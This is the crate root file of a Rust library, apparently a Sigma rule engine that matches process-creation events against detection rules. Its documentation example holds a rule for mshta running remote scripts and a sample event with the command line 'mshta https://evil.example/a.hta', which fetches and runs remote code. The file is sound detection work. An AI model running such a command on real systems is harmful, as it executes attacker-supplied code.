//! sigmata: a Sigma rule engine for process-creation events.
//!
//! sigmata compiles a pack of [Sigma](https://github.com/SigmaHQ/sigma-specification)
//! rules into one immutable [`Engine`] and evaluates events against all of
//! them at once. It implements the Sigma 2.1 detection semantics exactly
//! (every value modifier, the full condition grammar, meta filters,
//! placeholders), never panics on any rule or event, does no I/O, and is
//! `Send + Sync`.
//!
//! # Example
//!
//! ```
//! use sigmata::{Builder, Config};
//!
//! let rule = r#"
//! title: Mshta Executes Remote Script
//! logsource: {category: process_creation, product: windows}
//! detection:
//!     selection:
//!         Image|endswith: '\mshta.exe'
//!         CommandLine|contains: ['http://', 'https://']
//!     condition: selection
//! level: high
//! "#;
//! let (engine, report) = Builder::new().config(Config::new()).add_source("mshta.yml", rule).build();
//! assert!(report.errors.is_empty());
//!
//! let mut cache = engine.create_cache();
//! let mut matches = sigmata::MatchSet::new();
//! let event = serde_json::json!({
//!     "Image": r"C:\Windows\System32\MSHTA.EXE",
//!     "CommandLine": "mshta https://evil.example/a.hta",
//! });
//! engine.matches_with(&mut cache, &event, &mut matches);
//! assert_eq!(matches.len(), 1);
//! ```
//!
//! # Pipeline
//!
//! Each stage has its own module and type; see `ARCHITECTURE.md`:
//! YAML text → [`rule::Document`] → [`condition::Ast`] → [`ir::RuleIr`]
//! (modifiers compiled away, fields interned) → [`Engine`]. The
//! [`reference`](mod@reference) module evaluates the IR directly and is the oracle the
//! engine is tested against.

#![deny(missing_docs)]
#![warn(missing_debug_implementations)]

mod build;
pub mod condition;
mod config;
mod engine;
mod error;
pub mod event;
pub mod explain;
pub mod fold;
pub mod freq;
pub mod ir;
#[cfg(feature = "json")]
mod json;
mod lazy;
mod matcher;
pub mod modifier;
mod plan;
mod record;
pub mod reference;
pub mod rule;
pub mod yaml;

pub use build::{Builder, LoadReport, NotApplicable};
pub use config::Config;
pub use engine::{Cache, Engine, EvalCounters, LoadedRule, MatchSet, PlanStats, RuleId};
pub use error::{Error, ErrorKind, LimitExceeded};
pub use event::{Event, Value};
pub use explain::Explanation;
pub use ir::Placeholders;
#[cfg(feature = "json")]
pub use json::{JsonError, JsonReader};
pub use matcher::AutomatonKind;
pub use record::{Kind, Record};
